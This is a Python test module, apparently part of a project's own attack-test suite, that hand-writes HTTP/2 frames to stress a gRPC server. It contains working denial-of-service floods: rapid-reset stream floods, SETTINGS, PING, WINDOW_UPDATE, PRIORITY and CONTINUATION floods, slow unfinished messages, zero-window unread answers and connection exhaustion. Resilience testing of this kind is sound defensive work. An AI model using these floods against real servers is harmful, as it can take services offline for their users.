"""A client of HTTP/2 that writes its frames by hand, and does with them what no library would."""

import contextlib
import socket
import time
from collections import Counter

from tests.attacks.kinds.counts import SERVICE
from tests.attacks.target import Target, flood, many

_MIB = 1 << 20
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACKNOWLEDGED = 0x1, 0x4, 0x1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_LARGEST_FRAME = 16_384
_LARGEST_WINDOW = 2**31 - 1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Write a frame by RFC 9113."""
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def header_block(path: str, *more: tuple[str, str]) -> bytes:
    """The headers of a gRPC call by RFC 7541, each as a literal that is not indexed."""
    headers = (
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
        ("te", "trailers"), ("content-type", "application/grpc"), *more,
    )  # fmt: skip
    return b"".join(b"\x00" + _text(name) + _text(value) for name, value in headers)


def _text(text: str) -> bytes:
    data = text.encode()
    length = len(data)
    if length < 127:
        return bytes([length]) + data
    groups, length = bytearray([127]), length - 127
    while length >= 128:
        groups.append(length & 0x7F | 0x80)
        length >>= 7
    return bytes([*groups, length]) + data


def call(stream: int, method: str, *more: tuple[str, str]) -> bytes:
    """Begin a call on a stream; the method is a path."""
    return frame(HEADERS, END_HEADERS, stream, header_block(method, *more))


def data(stream: int, payload: bytes, *, flags: int = 0) -> bytes:
    """The payload in frames of the largest size that every peer takes."""
    pieces = [payload[start : start + _LARGEST_FRAME] for start in range(0, len(payload), _LARGEST_FRAME)]
    return b"".join(frame(DATA, flags, stream, piece) for piece in pieces)


def message(length: int, payload: bytes = b"", *, compressed: bool = False) -> bytes:
    """The beginning of a message of gRPC that says how long it is."""
    return bytes([compressed]) + length.to_bytes(4) + payload


def connected(target: Target, *, receive_bytes: int | None = None) -> socket.socket:
    """Open a connection, and exchange settings."""
    connection = begun(target, receive_bytes=receive_bytes)
    try:
        header = connection.recv(9, socket.MSG_WAITALL)
        connection.recv(int.from_bytes(header[:3]), socket.MSG_WAITALL)
        connection.sendall(frame(SETTINGS, ACKNOWLEDGED, 0))
    except OSError:
        connection.close()
        raise
    return connection


def begun(target: Target, *, receive_bytes: int | None = None) -> socket.socket:
    """Open a connection, and send one's own settings."""
    connection = target.connect(target.grpc_port, receive_bytes=receive_bytes)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def _streams(number: int) -> range:
    return range(1, 2 * number, 2)


LIFT, LIFT_STREAM = f"{SERVICE}Lift", f"{SERVICE}LiftStream"
_BLOCK = header_block(LIFT)
FLOODS = {
    "resets": b"".join(
        call(stream, LIFT) + frame(RESET, 0, stream, bytes([0, 0, 0, 8])) for stream in _streams(40_000)
    ),
    "settings": frame(SETTINGS, 0, 0, bytes([0, 3, 0, 0, 0, 100])) * 100_000,
    "pings": frame(PING, 0, 0, bytes(8)) * 100_000,
    "windows": call(1, LIFT_STREAM) + frame(WINDOW, 0, 1, bytes([0, 0, 0, 1])) * 100_000,
    "priorities": b"".join(frame(PRIORITY, 0, stream, bytes(5)) for stream in _streams(100_000)),
    "empty data": call(1, LIFT_STREAM) + frame(DATA, 0, 1) * 100_000,
    "data of a byte": call(1, LIFT) + data(1, message(60_000)) + frame(DATA, 0, 1, b" ") * 60_000,
    "empty messages": call(1, LIFT_STREAM) + data(1, message(0) * 12_000),
    "continuations": frame(HEADERS, 0, 1, _BLOCK) + frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 100_000,
    "empty continuations": frame(HEADERS, 0, 1, _BLOCK) + frame(CONTINUATION, 0, 1) * 100_000,
    "calls": b"".join(call(stream, LIFT_STREAM) for stream in _streams(40_000)),
    "large headers": b"".join(
        call(stream, LIFT, *((f"x-{number}", "y" * 900) for number in range(16))) for stream in _streams(400)
    ),
    "garbage": bytes(range(256)) * 400,
}


def floods(target: Target, sent: str, connections: int = 2) -> Counter[str]:
    """Send frames as fast as the bound allows; connections that the server closes are opened again."""
    seen: Counter[str] = Counter()
    until_s = time.monotonic() + target.seconds
    while (left_s := until_s - time.monotonic()) > 0:
        with many(connections, lambda: connected(target)) as opened:
            seen += flood(opened, FLOODS[sent], left_s, rate_bytes=4 * _MIB)
        time.sleep(0.05)
    return seen


def unfinished_messages(target: Target, method: str, connections: int, calls: int, sent_bytes: int) -> Counter[str]:
    """Send all but the last byte of a message on each call of some connections, and neither end nor leave.

    What exceeds the window of a stream is sent when the server opens it, which it does for a message that it awaits.
    """
    seen: Counter[str] = Counter()
    with many(connections, lambda: begun(target)) as opened:
        writers = [_Writer(connection, method, calls, sent_bytes) for connection in opened]
        until_s = time.monotonic() + target.seconds
        while time.monotonic() < until_s and sum(writer.advance() for writer in writers):
            pass
        time.sleep(max(0.0, until_s - time.monotonic()))
        for writer in writers:
            seen["bytes sent"] += writer.sent
            seen["streams ended"] += writer.ended
    return seen


class _Writer:
    """Sends unfinished messages over one connection, as far as the server opens its windows."""

    def __init__(self, connection: socket.socket, method: str, calls: int, sent_bytes: int) -> None:
        self._connection = connection
        self._window = 65_535
        self._windows = dict.fromkeys(_streams(calls), 65_535)
        self._left = dict.fromkeys(_streams(calls), sent_bytes)
        self._received = b""
        self.sent = self.ended = 0
        beginning = message(sent_bytes + 1)
        connection.settimeout(5)
        with contextlib.suppress(OSError):
            for stream in self._windows:
                connection.sendall(call(stream, method))
                self._window -= len(beginning)
                self._windows[stream] -= len(beginning)
                connection.sendall(data(stream, beginning))

    def advance(self) -> bool:
        """Send what fits into the windows; returns whether something is left to send."""
        try:
            self._read()
            for stream, left in list(self._left.items()):
                size = min(left, self._window, self._windows[stream], _LARGEST_FRAME)
                if size <= 0:
                    continue
                self._connection.settimeout(5)
                self._connection.sendall(frame(DATA, 0, stream, bytes(size)))
                self.sent += size
                self._window -= size
                self._windows[stream] -= size
                self._left[stream] -= size
                if self._left[stream] == 0:
                    del self._left[stream]
        except OSError:
            self._left = {}
        return bool(self._left)

    def _read(self) -> None:
        self._connection.settimeout(0.005)
        with contextlib.suppress(TimeoutError):
            if not (piece := self._connection.recv(1 << 16)):
                raise OSError("the server has closed the connection")
            self._received += piece
        while len(self._received) >= 9 and len(self._received) >= 9 + (size := int.from_bytes(self._received[:3])):
            kind, flags, stream = self._received[3], self._received[4], int.from_bytes(self._received[5:9])
            payload, self._received = self._received[9 : 9 + size], self._received[9 + size :]
            self._take(kind, flags, stream, payload)

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == WINDOW and stream == 0:
            self._window += int.from_bytes(payload)
        elif kind == WINDOW and stream in self._windows:
            self._windows[stream] += int.from_bytes(payload)
        elif kind == SETTINGS and not flags & ACKNOWLEDGED:
            self._change_windows(payload)
            self._connection.sendall(frame(SETTINGS, ACKNOWLEDGED, 0))
        elif kind == PING and not flags & ACKNOWLEDGED:
            self._connection.sendall(frame(PING, ACKNOWLEDGED, 0, payload))
        elif kind == RESET or (kind == HEADERS and flags & END_STREAM):
            self.ended += 1
            self._left.pop(stream, None)

    def _change_windows(self, payload: bytes) -> None:
        for start in range(0, len(payload), 6):
            name, value = int.from_bytes(payload[start : start + 2]), int.from_bytes(payload[start + 2 : start + 6])
            if name == 4:  # SETTINGS_INITIAL_WINDOW_SIZE
                for stream in self._windows:
                    self._windows[stream] += value - 65_535


def unread_answers(target: Target, connections: int) -> Counter[str]:
    """Call, with windows that let no answer through, and read nothing."""
    settings = frame(SETTINGS, 0, 0, bytes([0, 4, 0, 0, 0, 0]))
    asked = b"".join(
        call(stream, f"{SERVICE}ListModels") + frame(DATA, END_STREAM, stream, message(0)) for stream in _streams(5_000)
    )
    with many(connections, lambda: connected(target, receive_bytes=4096)) as opened:
        for connection in opened:
            connection.sendall(settings)
        return flood(opened, asked, target.seconds, reads=False)


def compressed_messages(target: Target) -> Counter[str]:
    """Send messages that are said to be compressed."""
    encoding = ("grpc-encoding", "gzip")
    body = message(60_000, bytes(60_000), compressed=True)
    asked = b"".join(
        call(stream, LIFT, encoding) + data(stream, body) + frame(DATA, END_STREAM, stream) for stream in _streams(100)
    )
    seen: Counter[str] = Counter()
    until_s = time.monotonic() + target.seconds
    while (left_s := until_s - time.monotonic()) > 0:
        with many(2, lambda: connected(target)) as opened:
            seen += flood(opened, asked, left_s, rate_bytes=8 * _MIB)
        time.sleep(0.05)
    return seen


def handshakes(target: Target, connections: int, begun: bytes) -> Counter[str]:
    """Open many connections and begin what comes first on each, or nothing."""
    with many(connections, lambda: target.connect(target.grpc_port)) as opened:
        for connection in opened:
            with contextlib.suppress(OSError):
                connection.sendall(begun)
        time.sleep(target.seconds)
        return Counter(opened=len(opened))
